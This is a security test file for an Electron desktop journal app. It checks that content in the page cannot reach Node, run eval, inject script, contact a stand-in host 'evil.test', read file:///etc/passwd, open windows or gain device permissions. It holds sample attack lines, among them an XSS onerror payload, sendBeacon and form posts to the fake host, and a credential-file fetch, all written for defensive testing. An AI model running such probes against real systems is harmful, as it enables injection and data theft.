// What runs in the page has to carry its functions along, and here it tries what is harmful.
// oxlint-disable unicorn/consistent-function-scoping, no-eval, typescript/no-implied-eval
import { expect, test, type Rung } from './rung.ts';
import { composer, startJournal } from './steps.ts';

/** What a hostile text in the journal could try from within the page. */

test('the page has no Node and reaches exactly three functions', async ({ rung }) => {
  const seen = await rung.page.evaluate(() => ({
    node: ['require', 'process', 'module', 'Buffer', 'global', 'ipcRenderer', 'electron'].filter(
      (name) => name in window,
    ),
    bridge: Object.entries((window as unknown as { rung: object }).rung).map(
      ([name, value]) => `${name}: ${typeof value}`,
    ),
  }));
  expect(seen).toEqual({ node: [], bridge: ['request: function', 'desktop: function', 'onCommand: function'] });
});

test('the policy lets nothing run or load that is not the page’s own', async ({ rung }) => {
  await startJournal(rung);
  const outcome = await rung.page.evaluate(async () => {
    const violated = new Set<string>();
    document.addEventListener('securitypolicyviolation', (event) => violated.add(event.effectiveDirective));
    // In a task of its own: what the debugger evaluates may use eval.
    const inTask = (act: () => unknown) =>
      new Promise<string>((resolve) => {
        setTimeout(() => {
          try {
            act();
            resolve('ran');
          } catch (error) {
            resolve((error as Error).name);
          }
        });
      });
    const add = (name: string, fields: object) =>
      document.body.append(Object.assign(document.createElement(name), fields));
    const evaled = await inTask(() => (0, eval)('1'));
    const made = await inTask(() => new Function('return 1')());
    const html = await inTask(
      () => (document.createElement('div').innerHTML = '<img src=x onerror="window.pwned = true">'),
    );
    const script = document.createElement('script');
    await inTask(() => (script.textContent = 'window.pwned = true'));
    document.body.append(script);
    add('img', { src: 'https://evil.test/a.png' });
    add('link', { rel: 'stylesheet', href: 'https://evil.test/a.css' });
    add('iframe', { src: 'https://evil.test/' });
    const object = await inTask(() => add('object', { data: 'https://evil.test/' }));
    const form = Object.assign(document.createElement('form'), { action: 'https://evil.test/', method: 'post' });
    document.body.append(form);
    form.submit();
    const fetched = await fetch('https://evil.test/').then(
      () => 'ran',
      () => 'refused',
    );
    const file = await fetch('file:///etc/passwd').then(
      () => 'ran',
      () => 'refused',
    );
    navigator.sendBeacon('https://evil.test/', 'x');
    const socket = await inTask(() => new WebSocket('wss://evil.test/'));
    await new Promise((resolve) => setTimeout(resolve, 300));
    return {
      evaled,
      made,
      html,
      object,
      fetched,
      file,
      socket,
      pwned: 'pwned' in window,
      violated: [...violated].sort(),
    };
  });
  expect(outcome).toMatchObject({
    evaled: 'EvalError',
    made: 'EvalError',
    html: 'TypeError',
    object: 'TypeError',
    fetched: 'refused',
    file: 'refused',
    pwned: false,
  });
  expect(outcome.violated).toEqual(
    expect.arrayContaining([
      'connect-src',
      'form-action',
      'frame-src',
      'img-src',
      'require-trusted-types-for',
      'style-src-elem',
    ]),
  );
});

test('there is no way to another address, and the draft stays', async ({ rung }) => {
  await startJournal(rung);
  await composer(rung).fill('A draft nobody may lose');
  const before = rung.page.url();
  for (const address of [
    'https://evil.test/',
    'file:///etc/passwd',
    'app://rung.evil/',
    'app://rung/assets/',
    'data:text/html,x',
    'chrome://gpu',
  ]) {
    await rung.page
      .evaluate((to) => {
        location.href = to;
        location.assign(to);
        const link = Object.assign(document.createElement('a'), { href: to, textContent: 'x' });
        document.body.append(link);
        link.click();
        link.target = '_blank';
        link.click();
        link.remove();
      }, address)
      .catch(() => {});
    await rung.page.waitForTimeout(80);
  }
  // Read by hand: Playwright goes on waiting for the navigations that were stopped.
  const now = await rung.page.evaluate(() => ({
    url: location.href,
    draft: document.querySelector<HTMLTextAreaElement>('[aria-label="What happened"]')?.value,
  }));
  expect(now).toEqual({ url: before, draft: 'A draft nobody may lose' });
  expect(await findStrangePages(rung)).toEqual([]);
});

test('a blank page, which no guard can stop, leads back at once, with the draft', async ({ rung }) => {
  await startJournal(rung);
  await composer(rung).fill('A draft nobody may lose');
  await rung.page.evaluate(() => {
    location.href = 'about:blank';
  });
  await expect(composer(rung)).toHaveValue('A draft nobody may lose');
});

test('no second window opens and no webview is made', async ({ rung }) => {
  const opened = await rung.page.evaluate(() => {
    document.body.append(Object.assign(document.createElement('webview'), { src: 'https://evil.test/' }));
    return [window.open('https://evil.test/'), window.open('app://rung/'), window.open()].map((one) => one === null);
  });
  expect(opened).toEqual([true, true, true]);
  expect(await findStrangePages(rung)).toEqual([]);
});

test('every permission is denied but copying', async ({ rung }) => {
  const outcome = await rung.page.evaluate(async () => {
    const name = (error: unknown) => (error as Error).name;
    const attempt = async (act: () => unknown) => {
      try {
        const got = await act();
        return got === undefined || (Array.isArray(got) && got.length === 0) ? 'nothing' : 'granted';
      } catch (error) {
        return name(error);
      }
    };
    const media = navigator.mediaDevices;
    const { usb, hid, serial, bluetooth } = navigator as unknown as Record<
      string,
      { requestDevice?: (o: object) => unknown; requestPort?: () => unknown }
    >;
    return {
      place: await new Promise((resolve) =>
        navigator.geolocation.getCurrentPosition(
          () => resolve('granted'),
          () => resolve('denied'),
        ),
      ),
      camera: await attempt(() => media.getUserMedia({ video: true })),
      microphone: await attempt(() => media.getUserMedia({ audio: true })),
      screen: await attempt(() => media.getDisplayMedia()),
      notification: await Notification.requestPermission(),
      reading: await attempt(() => navigator.clipboard.readText()),
      midi: await attempt(() => navigator.requestMIDIAccess()),
      usb: await attempt(() => usb?.requestDevice?.({ filters: [] })),
      hid: await attempt(() => hid?.requestDevice?.({ filters: [] })),
      serial: await attempt(() => serial?.requestPort?.()),
      bluetooth: await attempt(() => bluetooth?.requestDevice?.({ acceptAllDevices: true })),
      kept: await navigator.storage.persist(),
    };
  });
  const { notification, kept, place, ...others } = outcome;
  expect({ notification, kept, place }).toEqual({ notification: 'denied', kept: false, place: 'denied' });
  for (const [name, answer] of Object.entries(others)) expect(answer, name).not.toBe('granted');
});

/** Every page, in a window or not, beyond the two that Rung itself opens. */
async function findStrangePages({ electron, page }: Rung): Promise<string[]> {
  const open = await electron.evaluate(({ webContents }) => webContents.getAllWebContents().map((one) => one.getURL()));
  const own = new Set([await page.evaluate(() => location.href), 'app://rung/#/capture']);
  return open.filter((address) => !own.delete(address));
}
